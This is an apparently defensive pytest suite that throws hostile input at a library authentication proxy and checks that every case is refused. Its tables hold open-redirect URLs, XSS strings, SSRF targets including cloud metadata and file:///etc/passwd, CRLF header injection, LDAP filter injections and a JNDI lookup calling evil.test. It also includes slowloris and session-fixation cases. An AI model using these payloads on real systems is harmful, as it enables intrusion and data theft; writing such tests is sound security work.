"""Hostile input, table by table: each row has the status it must get, and neither a vendor request
nor a session may come of it. Real slapd, real HTTP, raw sockets where a client library would
tidy the input up."""

from __future__ import annotations

import asyncio
import textwrap
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from proxy.app import SERVICES
from proxy.web.pages import MAX_LOGIN_BODY
from tests.canary import CANARY, leaks
from tests.harness import ProxyDriver, RecordingVendor, ldap_directory, vendor_toml, write_config

VENDOR_HOST = "www.vendor-one.test"
WILD = "search.wild-db.test"


@dataclass
class RawVendor:
    """A vendor that records request lines byte for byte (no HTTP library to normalise them)."""

    lines: list[bytes] = field(default_factory=list)
    connections: int = 0
    server: asyncio.Server | None = None

    @property
    def port(self) -> int:
        assert self.server is not None
        return int(self.server.sockets[0].getsockname()[1])

    async def start(self) -> None:
        async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            self.connections += 1
            head = await reader.readuntil(b"\r\n\r\n")
            self.lines.append(head.split(b"\r\n", 1)[0])
            body = b"raw vendor"
            writer.write(
                b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nConnection: close\r\n"
                b"Content-Length: %d\r\n\r\n%s" % (len(body), body)
            )
            await writer.drain()
            writer.close()

        self.server = await asyncio.start_server(serve, "127.0.0.1", 0)

    async def close(self) -> None:
        if self.server is not None:
            self.server.close()
            await self.server.wait_closed()


@dataclass
class Setup:
    driver: ProxyDriver
    vendor: RecordingVendor
    ssrf: RawVendor  # listens on 127.0.0.1 but is configured without connect_to
    raw: RawVendor

    @property
    def vendors_untouched(self) -> bool:
        return not self.vendor.requests and not self.ssrf.connections

    async def sessions(self) -> int:
        app = self.driver.client.server.app
        assert app is not None
        return await app[SERVICES].sessions.store.count()


@pytest.fixture
async def setup(
    tmp_path: Path, port: int, running_slapd: Any, vendor_factory: Any, proxy_factory: Any
) -> Any:
    vendor = await vendor_factory(VENDOR_HOST)
    ssrf = RawVendor()
    raw = RawVendor()
    await ssrf.start()
    await raw.start()
    ssrf_toml = textwrap.dedent(
        f"""\
        id = "internal"
        title = "Internal"
        origin = "http://localhost:{ssrf.port}"
        hosts = ["localhost"]
        auth = "ip"
        """
    )
    raw_toml = textwrap.dedent(
        f"""\
        id = "raw"
        title = "Raw"
        origin = "http://www.raw-db.test"
        hosts = ["www.raw-db.test", "*.wild-db.test"]
        auth = "ip"
        connect_to = "127.0.0.1:{raw.port}"
        """
    )
    one = vendor_toml("one", vendor, extra="\n[limits]\nmax_upload_bytes = 1000\n")
    cfg = write_config(
        tmp_path,
        port=port,
        directory=ldap_directory(running_slapd, tmp_path),
        vendors={"one": one, "internal": ssrf_toml, "raw": raw_toml},
        extra="\n[throttle.http]\nheader_timeout_s = 2\nmax_headers = 40\n",
    )
    driver = await proxy_factory(cfg)
    yield Setup(driver, vendor, ssrf, raw)
    await raw.close()
    await ssrf.close()


async def raw_exchange(port: int, data: bytes, *, timeout: float = 5.0) -> tuple[int, bool, bytes]:
    """Send bytes on a fresh connection; (status, whether the proxy closed it, response)."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        writer.write(data)
        await writer.drain()
        response = b""
        closed = False
        try:
            async with asyncio.timeout(timeout):
                while True:
                    chunk = await reader.read(65536)
                    if not chunk:
                        closed = True
                        break
                    response += chunk
        except TimeoutError:
            pass
        first = response.split(b"\r\n", 1)[0].split()
        status = int(first[1]) if len(first) > 1 and first[1].isdigit() else 0
        return status, closed, response
    finally:
        writer.close()


def _mapped_host(driver: ProxyDriver, host: str = VENDOR_HOST) -> str:
    return driver.mapped(host)


# --------------------------------------------------------------------------- open redirects

# {M} is the vendor's mapped host with port, {P} the proxy's own host with port, {port} its port.
OPEN_REDIRECTS = [
    "https://evil.test/",
    "//evil.test/",
    "///evil.test/",
    "////evil.test/",
    "http://www.vendor-one.test.evil.test/",
    "http://evil.test/http://www.vendor-one.test/",
    "http://www.vendor-one.test@evil.test/",
    "http://user:pass@www.vendor-one.test/",
    "http://evil.test\\@www.vendor-one.test/",
    "http://evil.test:443\\@www.vendor-one.test/",
    "https:\\\\www.vendor-one.test/",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "/\\evil.test",
    "\\\\evil.test",
    "http:%2f%2fevil.test",
    "%68ttp://evil.test/",
    "http://www.vendor-one.test%2f@evil.test/",
    "http://www.vendor-one.test%40evil.test/",
    "http://evil.test%23@www.vendor-one.test/",
    "http://evil.test#@www.vendor-one.test/",
    "http://evil.test?@www.vendor-one.test/",
    "http://www.vendor-one.test:80@evil.test/",
    "http://www.vendor-one.test\t.evil.test/",
    "http://www.vendor-one.test\n.evil.test/",
    "http://www.vendor-one.test\x00.evil.test/",
    " http://evil.test/",
    "http://evil.test\r\nLocation: http://evil.test/",
    "http://www.vendor-one.test\u3002evil.test/",
    "http://www\uff0evendor-one\uff0etest/",
    "http://www.vendor-\u043ene.test/",
    "http://www.vendor-one.test\u2028/",
    "http://xn--vendor-one-7za.test/",
    "http://vendor-one.test/",
    "http://evilwww.vendor-one.test/",
    "http://www.vendor-one.test./",
    "http://wild-db.test/",
    "http://evilwild-db.test/",
    "http://[::1]/",
    "http://127.0.0.1/",
    "http://2130706433/",
    "http://0x7f.0.0.1/",
    "http://0.0.0.0:1/",
    "http://169.254.169.254/latest/meta-data/",
    "ftp://www.vendor-one.test/",
    "file:///etc/passwd",
    "http:/www.vendor-one.test/",
    "http:www.vendor-one.test",
    "http://{M}.evil.test/",
    "http://www-vendor--one-test.proxy.localhost.evil.test/",
    "http://{P}/logout",
    "http://evil-test.proxy.localhost:{port}/",
    "http://www-vendor--one-test.proxy.localhost:1/",
    "http://www.vendor-one.test:99999/",
    "http://www.vendor-one.test:abc/",
    "https://evil.test/" + "a" * 5000,
    "HTTP://EVIL.TEST/",
]


def _fill(template: str, driver: ProxyDriver) -> str:
    return (
        template.replace("{M}", _mapped_host(driver))
        .replace("{P}", driver.public)
        .replace("{port}", str(driver.port))
    )


@pytest.mark.parametrize("url", OPEN_REDIRECTS)
async def test_open_redirect_forms_land_on_the_menu(setup: Setup, url: str) -> None:
    """After sign-in the patron goes to /menu, never elsewhere; no vendor hears of it."""
    driver = setup.driver
    r = await driver.login(CANARY.uid, CANARY.password, url=_fill(url, driver))
    assert r.status == 303
    assert r.headers["Location"] == f"http://{driver.public}/menu"
    assert setup.vendors_untouched and setup.raw.lines == []


async def test_open_redirect_forms_when_already_signed_in(setup: Setup) -> None:
    """GET /login?url= with a live session redirects at once: every form still goes to /menu."""
    driver = setup.driver
    await driver.login(CANARY.uid, CANARY.password)
    for url in OPEN_REDIRECTS:
        r = await driver.own("GET", "/login", params={"url": _fill(url, driver)})
        assert r.status == 303, url
        assert r.headers["Location"] == f"http://{driver.public}/menu", url
    assert setup.vendors_untouched
    assert await setup.sessions() == 1


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("http://www.vendor-one.test/x?y=1", "http://{M}/x?y=1"),
        ("HTTPS://WWW.VENDOR-ONE.TEST/x", "http://{M}/x"),
        ("http://{M}/already/mapped", "http://{M}/already/mapped"),
        ("http://search.wild-db.test/", "http://search-wild--db-test.proxy.localhost:{port}/"),
        # Stays percent-encoded, byte for byte: no header is injected.
        ("http://www.vendor-one.test/%0d%0aSet-Cookie:x=1", "http://{M}/%0d%0aSet-Cookie:x=1"),
        # The fragment stays in the Location: the browser keeps it (hash-routed databases).
        ("http://www.vendor-one.test#frag", "http://{M}/#frag"),
    ],
)
async def test_vendor_starting_points_are_allowed(setup: Setup, url: str, expected: str) -> None:
    """The control group: real starting points do redirect, in mapped form."""
    driver = setup.driver
    r = await driver.login(CANARY.uid, CANARY.password, url=_fill(url, driver))
    assert r.status == 303
    assert r.headers["Location"] == _fill(expected, driver)


# --------------------------------------------------------------------------- Host and SSRF

HOSTS = [
    ("evil.test", 404),
    ("127.0.0.1", 404),
    ("127.0.0.1:{vport}", 404),
    ("localhost", 404),
    ("localhost:{port}", 404),
    ("[::1]:{port}", 404),
    ("169.254.169.254", 404),
    ("10.0.0.1:{port}", 404),
    ("2130706433:{port}", 404),
    ("{Mh}.evil.test:{port}", 404),
    ("{Mh}:1", 404),
    ("{Mh}:{port1}", 404),
    ("{Mh}", 404),
    ("{Mh}:0{port}", 404),
    # The same host as an absolute DNS name: sent (308) to the dotless one, nothing fetched.
    ("{Mh}.:{port}", 308),
    ("{Mh}:{port}:{port}", 404),
    ("{Mh}:", 404),
    ("{Mh}:+{port}", 404),
    ("{Mh}:{port}@evil.test", 404),
    ("{Mh}:{port},evil.test", 404),
    ("{Mh}:{port}#x", 404),
    ("{Mh}:{port}?x", 404),
    ("{Mh}:{port}%00", 404),
    ("www-other-test.proxy.localhost:{port}", 404),
    ("-www-vendor--one-test.proxy.localhost:{port}", 404),
    ("www-vendor---one-test.proxy.localhost:{port}", 404),
    ("a.{Mh}:{port}", 404),
    ("www.vendor-one.test", 404),
    ("www.vendor-one.test:{port}", 404),
    ("proxy.localhost.evil.test:{port}", 404),
    ("proxy.localhost:{port1}", 404),
    ("evil-test.proxy.localhost:{port}", 404),
    ("www-vendor--one-test\u212a.proxy.localhost:{port}", 404),  # Kelvin sign
    ("{Mh}:\u0660{port}", 404),  # Arabic-Indic digit
    # Configured, but the name resolves to loopback and there is no connect_to: refused at
    # connect time, no connection made.
    ("localhost.proxy.localhost:{port}", 502),
]


def _fill_host(template: str, s: Setup) -> str:
    d = s.driver
    return (
        template.replace("{Mh}", _mapped_host(d).split(":")[0])
        .replace("{port1}", str(d.port + 1))
        .replace("{port}", str(d.port))
        .replace("{vport}", str(s.vendor.port))
    )


@pytest.mark.parametrize(("host", "status"), HOSTS)
async def test_host_and_ssrf_forms_are_refused(setup: Setup, host: str, status: int) -> None:
    """A signed-in patron's cookie and a bad Host reach no vendor and no internal address."""
    driver = setup.driver
    await driver.login(CANARY.uid, CANARY.password)
    filled = _fill_host(host, setup)
    request = (
        f"GET / HTTP/1.1\r\nHost: {filled}\r\n"
        f"Cookie: {driver.config.server.cookie_name}={driver.session_id()}\r\n"
        "Connection: close\r\n\r\n"
    ).encode()
    got, _, _ = await raw_exchange(driver.port, request)
    # A Host the HTTP parser already rejects gets its 400; one it accepts gets the proxy's page.
    allowed = {404, 400} if status == 404 else {status}
    assert got in allowed
    assert setup.vendors_untouched
    assert await setup.sessions() == 1, "only the login's own session"


async def test_absolute_form_target_naming_another_host_is_refused(setup: Setup) -> None:
    driver = setup.driver
    await driver.login(CANARY.uid, CANARY.password)
    for target in ("http://evil.test/", f"http://{VENDOR_HOST}/", "*"):
        request = (
            f"GET {target} HTTP/1.1\r\nHost: {_mapped_host(driver)}\r\n"
            f"Cookie: {driver.config.server.cookie_name}={driver.session_id()}\r\n"
            "Connection: close\r\n\r\n"
        ).encode()
        status, _, _ = await raw_exchange(driver.port, request)
        assert status == 400, target
    assert setup.vendors_untouched


# --------------------------------------------------------------------------- LDAP filters

LDAP_USERNAMES = [
    "*",
    "**",
    "x)(uid=*",
    "*)(|(uid=*",
    "29999000424242)(uid=*",
    "29999000424242*",
    "*29999000424242",
    "2999900042424*",
    "*)(objectClass=*",
    "(uid=*)",
    "29999000424242)(|(objectClass=*)",
    "admin*)((|userPassword=*)",
    "*)(uid=*))(|(uid=*",
    "\\",
    "\\2a",
    "29999000424242\\00",
    "a\x00b",
    "29999000424242\x00",
    "29999000424242)(description=expired",
    "*()|&'",
    "${jndi:ldap://evil.test/a}",
    ")(",
    "9" * 10_000,
]


@pytest.mark.parametrize("username", LDAP_USERNAMES)
async def test_ldap_filter_forms_never_sign_in(setup: Setup, username: str) -> None:
    """Filter metacharacters are escaped: 400 or 401 with the canary's PIN, and no session."""
    driver = setup.driver
    r = await driver.login(username, CANARY.password)
    assert r.status in (400, 401)
    assert driver.config.server.cookie_name not in r.cookies
    assert await setup.sessions() == 0
    assert setup.vendors_untouched


# --------------------------------------------------------------------------- sizes and time


async def _session_request(s: Setup, head: str, body: bytes = b"") -> tuple[int, bool, bytes]:
    d = s.driver
    cookie = f"Cookie: {d.config.server.cookie_name}={d.session_id()}\r\n"
    data = f"{head}Host: {_mapped_host(d)}\r\n{cookie}Connection: close\r\n\r\n".encode() + body
    return await raw_exchange(d.port, data)


async def test_overlong_url_is_refused(setup: Setup) -> None:
    await setup.driver.login(CANARY.uid, CANARY.password)
    status, closed, _ = await _session_request(setup, f"GET /{'a' * 9000} HTTP/1.1\r\n")
    assert status == 414 and closed
    assert setup.vendors_untouched


async def test_overlong_header_is_refused(setup: Setup) -> None:
    await setup.driver.login(CANARY.uid, CANARY.password)
    status, closed, _ = await _session_request(setup, f"GET / HTTP/1.1\r\nX-Big: {'b' * 9000}\r\n")
    assert status == 431 and closed
    assert setup.vendors_untouched


async def test_too_many_headers_are_refused(setup: Setup) -> None:
    await setup.driver.login(CANARY.uid, CANARY.password)
    many = "".join(f"X-H{i}: v\r\n" for i in range(60))
    status, closed, _ = await _session_request(setup, f"GET / HTTP/1.1\r\n{many}")
    assert status == 400 and closed
    assert setup.vendors_untouched


async def test_oversized_login_body_is_refused_without_a_session(setup: Setup) -> None:
    driver = setup.driver
    csrf, _ = await driver.login_form()
    r = await driver.client.post(
        "/login",
        data={
            "username": CANARY.uid,
            "password": CANARY.password,
            "csrf": csrf,
            "pad": "p" * (MAX_LOGIN_BODY + 1),
        },
        headers={"Host": driver.public},
        allow_redirects=False,
    )
    assert r.status in (400, 413)
    assert await setup.sessions() == 0


async def test_upload_over_the_vendor_limit_gets_413_and_reaches_nobody(setup: Setup) -> None:
    driver = setup.driver
    await driver.login(CANARY.uid, CANARY.password)
    r = await driver.get_vendor(
        VENDOR_HOST,
        "/upload",
        method="POST",
        data=b"u" * 5000,
        headers={"Content-Type": "application/octet-stream"},
    )
    assert r.status == 413
    assert setup.vendor.requests == []


async def test_slow_headers_are_cut_off_at_the_header_timeout(setup: Setup) -> None:
    """A client trickling its headers (slowloris) is disconnected after header_timeout_s (2 s)."""
    driver = setup.driver
    reader, writer = await asyncio.open_connection("127.0.0.1", driver.port)
    loop = asyncio.get_running_loop()
    started = loop.time()
    closed_after = None
    try:
        writer.write(f"GET / HTTP/1.1\r\nHost: {_mapped_host(driver)}\r\n".encode())
        for i in range(40):
            try:
                writer.write(f"X-Slow-{i}: a\r\n".encode())
                await writer.drain()
            except ConnectionError:
                closed_after = loop.time() - started
                break
            try:
                data = await asyncio.wait_for(reader.read(1), 0.25)
            except TimeoutError:
                continue
            if data == b"":
                closed_after = loop.time() - started
                break
    finally:
        writer.close()
    assert closed_after is not None, "the proxy never closed the slow connection"
    assert 1.5 <= closed_after <= 2 + 1.5
    assert setup.vendors_untouched


# --------------------------------------------------------------------------- paths


@pytest.mark.parametrize(
    "path",
    [
        "/../login",
        "/%2e%2e/login",
        "/a/%2E%2E/%2e%2e/logout",
        "/.%2e/menu",
        "/a%2fb/../metrics",
        "/x%00y",
        "/login",
        "/logout",
        "/metrics",
        "/.well-known/jwks.json",
        "//evil.test/x",
        "/a/./b/../c?q=/../login",
    ],
)
async def test_paths_go_to_the_vendor_byte_for_byte(setup: Setup, path: str) -> None:
    """On a mapped host every path is the vendor's, sent as received; none reaches the proxy's
    own routes (a session cookie is not needed for that, but one is sent to prove no logout)."""
    driver = setup.driver
    await driver.login(CANARY.uid, CANARY.password)
    sid = driver.session_id()
    status, _, body = await raw_exchange(
        driver.port,
        (
            f"GET {path} HTTP/1.1\r\nHost: {_mapped_host(driver, 'www.raw-db.test')}\r\n"
            f"Cookie: {driver.config.server.cookie_name}={sid}\r\nConnection: close\r\n\r\n"
        ).encode(),
    )
    assert status == 200
    assert body.endswith(b"raw vendor")
    assert setup.raw.lines == [f"GET {path} HTTP/1.1".encode()]
    # The session survived "/logout" on a vendor host.
    r = await driver.own("GET", "/menu")
    assert r.status == 200


# --------------------------------------------------------------------------- CSRF, fixation, tossing


@pytest.mark.parametrize(
    "case", ["no-token", "wrong-token", "no-cookie", "empty-both", "cookie-as-field-only"]
)
async def test_login_without_a_matching_csrf_pair_is_refused(setup: Setup, case: str) -> None:
    driver = setup.driver
    csrf, _ = await driver.login_form()
    data = {"username": CANARY.uid, "password": CANARY.password, "url": ""}
    cookies: dict[str, str] = {}
    driver.client.session.cookie_jar.clear()
    if case == "wrong-token":
        data["csrf"], cookies["weston_csrf"] = "A" * 32, csrf
    elif case == "no-cookie":
        data["csrf"] = csrf
    elif case == "empty-both":
        data["csrf"], cookies["weston_csrf"] = "", ""
    elif case == "cookie-as-field-only":
        cookies["weston_csrf"] = csrf
    r = await driver.client.post(
        "/login", data=data, headers={"Host": driver.public}, cookies=cookies, allow_redirects=False
    )
    assert r.status == 400
    assert driver.config.server.cookie_name not in r.cookies
    assert await setup.sessions() == 0


async def test_planted_valid_session_is_ended_not_adopted(setup: Setup) -> None:
    """Fixation with a *real* session: the attacker's id, planted in the victim's browser, is
    ended at the victim's login, and the victim gets a fresh one."""
    driver = setup.driver
    await driver.login(CANARY.uid, CANARY.password)
    attacker = driver.session_id()
    assert attacker
    r = await driver.login(
        CANARY.uid, CANARY.password, cookies={driver.config.server.cookie_name: attacker}
    )
    victim = r.cookies[driver.config.server.cookie_name].value
    assert victim != attacker
    assert (await driver.get_vendor(VENDOR_HOST, "/", sid=attacker)).status == 302
    assert (await driver.get_vendor(VENDOR_HOST, "/", sid=victim)).status == 200


async def test_vendor_cannot_toss_the_proxy_session_cookie(setup: Setup) -> None:
    """A vendor's Set-Cookie (even one named like the proxy's, for the parent domain) never
    reaches the browser, and the patron's session carries on."""
    driver = setup.driver
    name = driver.config.server.cookie_name

    async def toss(request: web.Request) -> web.StreamResponse:
        resp = web.Response(text="<p>tossed</p>", content_type="text/html")
        resp.headers.add("Set-Cookie", f"{name}=tossed; Domain=proxy.localhost; Path=/")
        resp.headers.add("Set-Cookie", f"{name}=tossed2; Path=/")
        resp.headers.add("Set-Cookie", "vendor_pref=1; Path=/")
        return resp

    setup.vendor.routes["/toss"] = toss
    await driver.login(CANARY.uid, CANARY.password)
    sid = driver.session_id()
    r = await driver.get_vendor(VENDOR_HOST, "/toss")
    assert r.status == 200
    assert "Set-Cookie" not in r.headers
    assert (await driver.get_vendor(VENDOR_HOST, "/after", sid=sid)).status == 200
    assert leaks(setup.vendor.all_bytes()) == []
    assert sid.encode() not in setup.vendor.all_bytes()


async def test_chunked_upload_without_length_is_refused_before_the_vendor(setup: Setup) -> None:
    """A chunked body cannot be checked against max_upload_bytes up front: 411, nothing sent."""
    driver = setup.driver
    await driver.login(CANARY.uid, CANARY.password)
    body = b"".join(b"%x\r\n%s\r\n" % (1000, b"u" * 1000) for _ in range(5)) + b"0\r\n\r\n"
    status, closed, _ = await _session_request(
        setup,
        "POST /upload HTTP/1.1\r\nContent-Type: application/octet-stream\r\n"
        "Transfer-Encoding: chunked\r\n",
        body,
    )
    assert status == 411 and closed
    assert setup.vendor.requests == []


async def test_login_body_trickled_slowly_is_cut_off(setup: Setup) -> None:
    """A sign-in body that never arrives in full is dropped after the login body timeout."""
    from proxy.web import pages

    original = pages.LOGIN_BODY_TIMEOUT_S
    pages.LOGIN_BODY_TIMEOUT_S = 0.5
    try:
        started = time.monotonic()
        status, closed, _ = await raw_exchange(
            setup.driver.port,
            (
                f"POST /login HTTP/1.1\r\nHost: {setup.driver.public}\r\n"
                "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 200\r\n\r\nusername=2"
            ).encode(),
            timeout=6,
        )
        assert status == 400 and closed
        assert time.monotonic() - started < 5  # 0.5 s body timeout + 2 s lingering, with slack
        assert await setup.sessions() == 0 and setup.vendors_untouched
    finally:
        pages.LOGIN_BODY_TIMEOUT_S = original
